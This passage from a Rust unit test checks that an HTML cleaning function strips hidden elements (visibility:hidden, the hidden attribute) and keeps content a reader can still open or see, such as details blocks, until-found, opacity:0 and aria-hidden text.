        ("<p>One <b style='visibility:hidden'>two<i>two</b> three</p>", "<p>One  three</p>"),
        ("<ul><li>One<li hidden>Two<p>Two<li>Three</ul>", "<ul><li>One</li><li>Three</li></ul>"),
        (
            "<div><p>One</p><section HIDDEN><p>Two</div><p>Three</p>",
            "<div><p>One</p>\n</div><p>Three</p>",
        ),
        ("<p>One <img hidden src='a.jpg'>two</p>", "<p>One two</p>"),
    ];
    for (html, shown) in table {
        let clean = clean(html);
        assert_eq!(clean.replace('\n', ""), shown.replace('\n', ""), "{html}");
    }
    // What a reader can open, finds, or sees after all, stays; so does what only speaks of it.
    let seen = [
        "<details><summary>More</summary><p>Two</p></details>",
        "<p hidden=\"until-found\">Two</p>",
        "<p style=\"display:none;display:block\">Two</p>",
        "<p style=\"opacity:0\">Two</p>",
        "<p aria-hidden=\"true\">Two</p>",
        "<p class=\"hidden\">Two</p>",
        "<p>Two: a hidden display that collapses, style=\"display:none\"</p>",
    ];
    for html in seen {
        assert!(clean(html).contains("Two"), "{html}: {}", clean(html));
    }
}
